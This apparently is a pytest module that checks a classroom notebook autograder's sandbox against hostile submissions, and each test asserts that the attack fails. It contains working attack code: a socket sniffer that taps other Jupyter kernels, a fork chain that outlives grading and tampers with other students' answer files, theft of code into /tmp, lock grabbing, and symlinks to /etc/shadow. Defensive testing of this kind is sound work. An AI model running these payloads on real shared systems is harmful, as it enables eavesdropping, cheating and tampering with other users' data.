"""A hostile class, graded the way `make grade` grades it (classroom.grade.autograde_class, 1 and 2 workers).

Each submission tries one thing a clever student would, against the students graded beside it or after it, the
reference run or the grader itself: tap a neighbour's kernel for its solution (1), leave a process behind that
outlives grading, takes the grader's locks, reads its command lines and rewrites the next student's record of
answers (2), then taps the reference run of the next assignment for its hidden tests and hands them to a stub
submission (3), print the hidden tests with an IPython hook (4), print 200 MB (5), submit 5,000 small files,
and submit symbolic links to the course's source and to root's files. Each test states what the grader must
guarantee; it scores and reads only what the submission's own kernel could.

The kernels tap sockets with a few lines of ZMTP over plain sockets (SNIFFER), not libzmq, so that a process
that forks every millisecond keeps its connections.
"""

from __future__ import annotations

import glob
import os
import pwd
import sys
import textwrap
import threading
import time
from pathlib import Path

import nbformat
import pytest
from gradingcourse import (
    RIG_CELLS,
    RIG_POINTS,
    RIG_SOLUTION,
    RIG_WRONG,
    add_assignment,
    outputs_text,
    sandbox_missing,
    submit,
)

from classroom import grade
from coursetools import coursework

pytestmark = [pytest.mark.slow, pytest.mark.skipif(bool(sandbox_missing()), reason=sandbox_missing() or "-")]

FULL = sum(RIG_POINTS.values())
MARK = "honest work 5e1f"  # in the honest student's solution only
LINGER_SECONDS = 90  # how long the lingering processes try, if nothing ends them

# A ZMTP 3.0 subscriber over plain sockets: every listening TCP port on the loopback and every Unix socket this
# process can see is tapped, and each Jupyter message on it is read as (header, content).
SNIFFER = r"""
import json, os, socket, time

GREETING = b"\xff" + b"\0" * 8 + b"\x7f" + b"\x03\x00" + b"NULL" + b"\0" * 16 + b"\0" + b"\0" * 31


def zmtp_frame(body, command=False):
    flags = 4 if command else 0
    if len(body) > 255:
        return bytes([flags | 2]) + len(body).to_bytes(8, "big") + body
    return bytes([flags, len(body)]) + body


def listening_addresses():
    found = []
    for name in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = open(name).read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            parts = line.split()
            if len(parts) > 3 and parts[3] == "0A":
                found.append((socket.AF_INET, ("127.0.0.1", int(parts[1].split(":")[1], 16))))
    try:
        for line in open("/proc/net/unix").read().splitlines()[1:]:
            parts = line.split()
            if len(parts) >= 8 and parts[-1].startswith("/"):
                found.append((socket.AF_UNIX, parts[-1]))
    except OSError:
        pass
    return found


class Tap:
    def __init__(self, family, address):
        self.address = address
        self.sock = socket.socket(family, socket.SOCK_STREAM)
        self.sock.settimeout(0.2)
        self.sock.connect(address)
        self.sock.sendall(GREETING)
        ready = b"\x05READY" + b"\x0bSocket-Type" + (3).to_bytes(4, "big") + b"SUB"
        self.sock.sendall(zmtp_frame(ready, command=True))
        self.sock.sendall(zmtp_frame(b"\x01"))
        self.sock.setblocking(False)
        self.buffer, self.greeted, self.parts = b"", False, []

    def messages(self):
        try:
            for _ in range(16):  # a peer that streams without end gets its share, not all of the time
                chunk = self.sock.recv(1 << 20)
                if not chunk:
                    break
                self.buffer += chunk
        except (BlockingIOError, InterruptedError, OSError):
            pass
        if not self.greeted:
            if len(self.buffer) < 64:
                return
            self.buffer, self.greeted = self.buffer[64:], True
        while len(self.buffer) >= 2:
            flags = self.buffer[0]
            if flags & 2:
                if len(self.buffer) < 9:
                    return
                size, start = int.from_bytes(self.buffer[1:9], "big"), 9
            else:
                size, start = self.buffer[1], 2
            if len(self.buffer) < start + size:
                return
            body, self.buffer = self.buffer[start:start + size], self.buffer[start + size:]
            if flags & 4:
                continue
            self.parts.append(body)
            if not flags & 1:
                parts, self.parts = self.parts, []
                if b"<IDS|MSG>" in parts:
                    i = parts.index(b"<IDS|MSG>")
                    try:
                        yield json.loads(parts[i + 2]), json.loads(parts[i + 5])
                    except (IndexError, ValueError):
                        pass


def tap_everything(seen):
    taps = []
    for family, address in listening_addresses():
        if address in seen:
            continue
        seen.add(address)
        try:
            taps.append(Tap(family, address))
        except OSError:
            pass
    return taps
"""

# 1. Taps every kernel it can find for 60 s, and runs the first solution it hears (the honest student's). It gives
# up after 10 s in which it finds nothing to tap but its own kernel's sockets.
NEIGHBOUR = (
    "# NEIGHBOUR\n"
    f"exec({SNIFFER!r})\n"
    "from ipykernel.connect import get_connection_info\n"
    "own = json.loads(get_connection_info())\n"
    "mine = {own['ip'] + '-' + str(own[k]) for k in own if k.endswith('_port')} | {own[k] for k in own if k.endswith('_port')}\n"
    "seen, taps, captured = set(), [], None\n"
    "deadline, lonely = time.time() + 60, time.time() + 10\n"
    "while captured is None and time.time() < min(deadline, lonely):\n"
    "    taps += tap_everything(seen)\n"
    "    if any((a[1] if isinstance(a, tuple) else a) not in mine for a in seen):\n"
    "        lonely = deadline\n"
    "    for tap in taps:\n"
    "        for header, content in tap.messages():\n"
    "            code = content.get('code', '') if header.get('msg_type') == 'execute_input' else ''\n"
    "            if 'answer_sum =' in code and 'NEIGHBOUR' not in code:\n"
    "                captured = code\n"
    "    time.sleep(0.05)\n"
    "print('CAPTURED' if captured else 'NOTHING CAPTURED')\n"
    "if captured:\n"
    "    print(captured)\n"
    "    exec(captured)\n"
)

# 2 and 3. Three processes that each fork and exit as fast as they can (each generation a new pid, none living
# longer than a sliver of work) for LINGER_SECONDS. The work goes round, a sliver per generation, its state passed on
# by fork: list the command lines it can read, a few at a time, for sandbox folders; append a wrong answer to the
# record of answers in each; tap every kernel it finds (the sockets outlive the generations) and write the code they
# run to /dev/shm and /tmp. A small Python of its own (a fork of a kernel that imported NumPy takes ten times as long).
CHAIN = SNIFFER + textwrap.dedent(
    f"""
    import re
    deadline, step, CHAINS = time.time() + {LINGER_SECONDS}, 0, 3
    loot = ['/dev/shm/loot-%d' % os.getuid(), '/tmp/loot-%d' % os.getuid()]
    taps, seen, folders, pids = [], set(), set(), []
    for _ in range(CHAINS - 1):  # several chains: a sweep must catch each of them
        if os.fork() == 0:
            break
    while time.time() < deadline:
        try:
            if os.fork():
                os._exit(0)
        except OSError:  # too many processes of the account at once: try again
            time.sleep(0.001)
            continue
        step += 1
        try:
            if step % 500 == 0:
                for family, address in listening_addresses():
                    if address not in seen:
                        seen.add(address)
                        try:
                            taps.append(Tap(family, address))
                        except OSError:
                            pass
            elif not pids:
                pids = [entry for entry in os.listdir('/proc') if entry.isdigit()]
            elif step % 2:
                for entry in pids[:8]:
                    try:
                        text = open('/proc/%s/cmdline' % entry, 'rb').read().decode('utf-8', 'replace')
                    except OSError:
                        continue
                    folders.update(re.findall(r'(/var/lib/[a-z]+-sandbox/[^\\s/\\x00]+)', text))
                del pids[:8]
            else:
                for folder in folders:
                    try:
                        with open(folder + '/answers.jsonl', 'a') as handle:
                            handle.write('{{"key": "answer_sum", "answer": -1.0}}\\n')
                    except OSError:
                        pass
                for tap in taps:
                    for header, content in tap.messages():
                        if header.get('msg_type') == 'execute_input':
                            for path in loot:
                                with open(path, 'a') as handle:
                                    handle.write(json.dumps(content.get('code', '')) + '\\n')
        except Exception:
            pass
    """
)

# In the foreground: opens and locks what it can of the grader's locks, reads the grader's command lines, starts
# CHAIN in a session of its own, and a set-user-ID program of the system that waits for a password that never
# comes (it reads from a pipe that it holds open itself).
LINGERER = (
    RIG_WRONG + "import fcntl, glob, os, subprocess, sys\n"
    "for path in sorted(set(CANDIDATE_LOCKS + glob.glob('/var/lib/*-sandbox/**/*.lock', recursive=True)\n"
    "                       + glob.glob('/run/**/*.lock', recursive=True))):\n"
    "    try:\n"
    "        handle = open(path)\n"
    "        print('OPENED', path)\n"
    "        fcntl.flock(handle, fcntl.LOCK_EX | fcntl.LOCK_NB)\n"
    "        print('LOCKED', path)\n"
    "    except OSError:\n"
    "        pass\n"
    "for entry in glob.glob('/proc/[0-9]*/cmdline'):\n"
    "    try:\n"
    "        text = open(entry, 'rb').read().replace(b'\\0', b' ').decode()\n"
    "    except OSError:\n"
    "        continue\n"
    "    if 'grade' in text:\n"
    "        print('SAW', text)\n"
    f"subprocess.Popen([sys.executable, '-I', '-S', '-c', {CHAIN!r}], start_new_session=True,\n"
    "                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
    "os.mkfifo('held')\n"
    "for program in ('/usr/bin/chfn', '/usr/bin/passwd'):\n"
    "    if os.path.exists(program):\n"
    "        subprocess.Popen([program], stdin=os.open('held', os.O_RDWR), stdout=subprocess.DEVNULL,\n"
    "                         stderr=subprocess.DEVNULL, start_new_session=True)\n"
    "        break\n"
)

# 3. Taps every kernel it can find for 60 s while the next assignment's reference run starts, and writes the code
# they run to /dev/shm and /tmp, where a later kernel of any account could read it.
EAVESDROPPER = (
    RIG_WRONG + f"exec({SNIFFER!r})\n"
    "loot = ['/dev/shm/loot-%d' % os.getuid(), '/tmp/loot-%d' % os.getuid()]\n"
    "seen, taps, deadline, heard, rounds = set(), [], time.time() + 60, 0, 0\n"
    "while time.time() < deadline:\n"
    "    rounds += 1\n"
    "    if rounds % 20 == 0:  # a handshake made while a kernel was starting may stall: tap it again\n"
    "        for tap in [tap for tap in taps if not tap.greeted]:\n"
    "            taps.remove(tap)\n"
    "            seen.discard(tap.address)\n"
    "            tap.sock.close()\n"
    "    taps += tap_everything(seen)\n"
    "    for tap in taps:\n"
    "        for header, content in tap.messages():\n"
    "            if header.get('msg_type') == 'execute_input':\n"
    "                heard += 1\n"
    "                for path in loot:\n"
    "                    with open(path, 'a') as handle:\n"
    "                        handle.write(json.dumps(content.get('code', '')) + '\\n')\n"
    "    time.sleep(0.05)\n"
    "print('HEARD', heard)\n"
)

# 3. A stub submission of the next assignment that runs whatever solution code a lingering process captured.
REPLAYER = (
    "import glob, json\n"
    "replayed = 0\n"
    "for path in glob.glob('/dev/shm/loot-*') + glob.glob('/tmp/loot-*'):\n"
    "    for line in open(path):\n"
    "        code = json.loads(line)\n"
    "        if 'result_sum =' in code and 'BEGIN HIDDEN' not in code:\n"
    "            exec(code)\n"
    "            replayed += 1\n"
    "print('REPLAYED', replayed)\n"
)

# 4. Prints each check cell's source before it runs.
PRINTER = (
    RIG_WRONG + "def show(info):\n    if 'HIDDEN' in (info.raw_cell or ''):\n        print(info.raw_cell)\n\n\n"
    "get_ipython().events.register('pre_run_cell', show)\n"
)

# 5. One line of 200,000,001 characters, then right answers.
FLOOD = "print('x' * 200_000_001)\n" + RIG_SOLUTION

# Floods every cell that runs after it with 1.1 MB, to push the errors of the check cells out of the kept output.
DROWNER = RIG_WRONG + (
    "def flood(info):\n    print('y' * 1_100_000)\n\n\nget_ipython().events.register('pre_run_cell', flood)\n"
)

# Many small files beside the notebook; the kernel counts what it sees of them.
FILES = RIG_SOLUTION + "\nimport os\nprint('FILES', len(os.listdir('extra')) if os.path.isdir('extra') else 0)\n"
MANY_FILES = 5000

# Symbolic links to the course's source notebook (hidden tests), to a file only root reads and to /.
SYMLINKS = (
    RIG_WRONG + "import os\n"
    "for name in ('source.txt', 'shadow', 'top'):\n"
    "    try:\n"
    "        text = open(name).read() if not os.path.isdir(name) else ' '.join(os.listdir(name))\n"
    "    except OSError:\n"
    "        continue\n"
    "    if 'HIDDEN TESTS' in text or 'root:' in text:\n"
    "        print('READ', name)\n"
)

RIG2_CELLS = [
    (
        cell_id.replace("ex-rig", "ex-rig2"),
        kind,
        text.replace("answer_", "result_").replace("arange(6.0)", "arange(8.0)"),
    )
    for cell_id, kind, text in RIG_CELLS
]
RIG2_SOLUTION = RIG_SOLUTION.replace("answer_", "result_")


def candidate_locks() -> list[str]:
    """The grader's lock files wherever this or an earlier version of classroom.grade keeps them."""
    paths = [f"/var/lib/nbgrader-sandbox/.nbgrader-sandbox-{n}.lock" for n in range(1, 5)]  # before namespaces
    sandbox = getattr(grade, "sandbox", None)
    if sandbox is not None:
        paths += [str(sandbox.LOCK_DIR / f"{sandbox.SANDBOX_PREFIX}{n}.lock") for n in range(1, 5)]
    return paths


def graded(root: Path, student: str, assignment: str = "rig") -> nbformat.NotebookNode:
    return nbformat.read(root / "autograded" / student / assignment / f"{assignment}.ipynb", as_version=4)


def sandbox_processes() -> list[str]:
    """The processes of sandbox accounts that are still running."""
    import psutil

    prefixes = ("nbgrader-sandbox-", getattr(getattr(grade, "sandbox", None), "SANDBOX_PREFIX", "nbgrader-sandbox-"))
    uids = {p.pw_uid for p in pwd.getpwall() if p.pw_name.startswith(prefixes)}
    found = []
    for process in psutil.process_iter(["uids", "cmdline", "pid"]):
        try:
            if process.info["uids"] and process.info["uids"].real in uids:
                found.append(f"{process.info['pid']}: {' '.join(process.info['cmdline'] or [])[:200]}")
        except psutil.Error:
            continue
    return found


def loot_files() -> list[str]:
    return glob.glob("/dev/shm/loot-*") + glob.glob("/tmp/loot-*")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The hostile class graded: the parallel attacks with 2 workers; the lingering processes and the student graded
    after them with 1 worker; the next assignment's reference run and a stub that replays its loot, while the
    eavesdropper of this one listens."""
    for path in loot_files():
        os.remove(path)
    root = tmp_path_factory.mktemp("hostile") / "course"
    add_assignment(root, "rig", RIG_CELLS)
    add_assignment(root, "rig2", RIG2_CELLS)
    submit(
        root, "rig", "honest", RIG_SOLUTION + f"\n# {MARK}\n", before=["import time\n\ntime.sleep(25)  # a slow start"]
    )
    submit(root, "rig", "neighbour", NEIGHBOUR)
    submit(root, "rig", "printer", PRINTER)
    submit(root, "rig", "flood", FLOOD)
    submit(root, "rig", "drowner", DROWNER)
    folder = submit(root, "rig", "files", FILES)
    (folder / "extra").mkdir()
    for number in range(MANY_FILES):
        (folder / "extra" / f"{number:05d}.txt").write_text("small\n")
    folder = submit(root, "rig", "symlinks", SYMLINKS)
    (folder / "source.txt").symlink_to(root / "source" / "rig" / "rig.ipynb")
    (folder / "shadow").symlink_to("/etc/shadow")
    (folder / "top").symlink_to("/")
    submit(root, "rig", "lingerer", LINGERER.replace("CANDIDATE_LOCKS", repr(candidate_locks())))
    submit(root, "rig", "victim", RIG_SOLUTION)
    submit(root, "rig2", "replayer", REPLAYER)
    submit(root, "rig", "eavesdropper", EAVESDROPPER)
    summaries = {}
    parallel = ["honest", "neighbour", "printer", "flood", "drowner", "files", "symlinks"]
    summaries["parallel"] = grade.autograde_class(root, "rig", parallel, jobs=2, notebook_timeout=120, out=sys.stdout)
    summaries["lingering"] = grade.autograde_class(
        root, "rig", ["lingerer", "victim"], jobs=1, notebook_timeout=120, out=sys.stdout
    )
    after = {"processes": sandbox_processes()}
    # the next assignment is graded while the eavesdropper of this one listens (30 s after its grading starts)
    listening = threading.Thread(
        target=lambda: summaries.update(
            eavesdropping=grade.autograde_class(root, "rig", ["eavesdropper"], notebook_timeout=120, out=sys.stdout)
        )
    )
    listening.start()
    time.sleep(30)
    summaries["next"] = grade.autograde_class(root, "rig2", ["replayer"], jobs=1, notebook_timeout=120, out=sys.stdout)
    listening.join()
    after["loot"] = loot_files()
    scores: dict[str, float] = {}
    for row in coursework.score_rows(root):
        scores[row["student"]] = scores.get(row["student"], 0.0) + row["score"]
    yield root, summaries, scores, after
    for path in loot_files():
        os.remove(path)


def test_a_kernel_cannot_tap_a_neighbour_kernel_for_its_solution(hostile):
    root, summaries, scores, _ = hostile
    assert not summaries["parallel"]["errors"], summaries["parallel"]["errors"]
    text = outputs_text(graded(root, "neighbour"))
    assert "NOTHING CAPTURED" in text and MARK not in text, text[-2000:]
    assert scores["neighbour"] == 0 and scores["honest"] == FULL, scores


def test_no_process_of_a_submission_outlives_its_grading(hostile):
    _, _, _, after = hostile
    assert after["processes"] == []


def test_a_process_left_behind_changes_no_other_students_grade(hostile):
    _, summaries, scores, _ = hostile
    assert not summaries["lingering"]["errors"], summaries["lingering"]["errors"]
    assert scores["victim"] == FULL and scores["lingerer"] == 0, scores


def test_a_kernel_can_neither_lock_the_graders_locks_nor_read_its_command_lines(hostile):
    root, _, _, _ = hostile
    text = outputs_text(graded(root, "lingerer"))
    assert "OPENED" not in text and "LOCKED" not in text, text[-2000:]
    saw = [line for line in text.splitlines() if line.startswith("SAW")]
    assert not [line for line in saw if str(root) in line or "references" in line or "lingerer" in line], saw


def test_the_reference_run_of_the_next_assignment_is_out_of_reach(hostile):
    root, summaries, scores, after = hostile
    assert not summaries["next"]["errors"], summaries["next"]["errors"]
    assert "HEARD 0" in outputs_text(graded(root, "eavesdropper"))
    assert after["loot"] == []
    assert "REPLAYED 0" in outputs_text(graded(root, "replayer", "rig2"))
    assert scores["replayer"] == 0, scores


def test_feedback_shows_no_hidden_test_whatever_a_cell_prints(hostile):
    root, _, _, _ = hostile
    result = grade.generate_feedback(root, "rig", "printer")
    assert result["success"], result
    page = (root / "feedback" / "printer" / "rig" / "rig.html").read_text()
    assert "answer_sum is not right yet" in page  # the failed part's message is shown
    for hidden in ("HIDDEN TESTS", "grade_close(", "np.allclose(answer_sum", "for x in (1, 2.5, -3)"):
        assert hidden not in page, hidden


def test_a_huge_output_is_cut_with_a_note_and_the_rest_is_graded(hostile):
    root, _, scores, _ = hostile
    path = root / "autograded" / "flood" / "rig" / "rig.ipynb"
    assert path.stat().st_size < 2 * 2**20, path.stat().st_size
    assert "output cut" in outputs_text(graded(root, "flood"))
    assert scores["flood"] == FULL


def test_output_limits_never_drop_the_error_of_a_check(hostile):
    root, _, scores, _ = hostile
    notebook = graded(root, "drowner")
    checks = [c for c in notebook.cells if c.get("metadata", {}).get("nbgrader", {}).get("grade")]
    kernel_errors = [o for c in checks for o in c.outputs if o.get("output_type") == "error" and len(o.traceback) > 1]
    assert len(kernel_errors) >= 2 and "output cut" in outputs_text(notebook)  # the kernel's own assertion errors
    assert scores["drowner"] == 0


def test_many_small_files_are_left_out_beyond_a_limit_with_a_note(hostile):
    root, summaries, scores, _ = hostile
    outcome = summaries["parallel"]["students"]["files"]
    assert any("files" in note for note in outcome.get("notes", [])), outcome
    seen = int(outputs_text(graded(root, "files")).split("FILES ")[1].split()[0])
    assert 0 < seen < MANY_FILES
    assert scores["files"] == FULL


def test_root_follows_no_symbolic_link_of_a_submission(hostile):
    root, summaries, _, _ = hostile
    assert "READ" not in outputs_text(graded(root, "symlinks"))
    copied = root / "autograded" / "symlinks" / "rig"
    for name in ("source.txt", "shadow", "top"):
        assert not (copied / name).exists() or (copied / name).is_symlink(), name
    assert any("link" in note for note in summaries["parallel"]["students"]["symlinks"].get("notes", []))
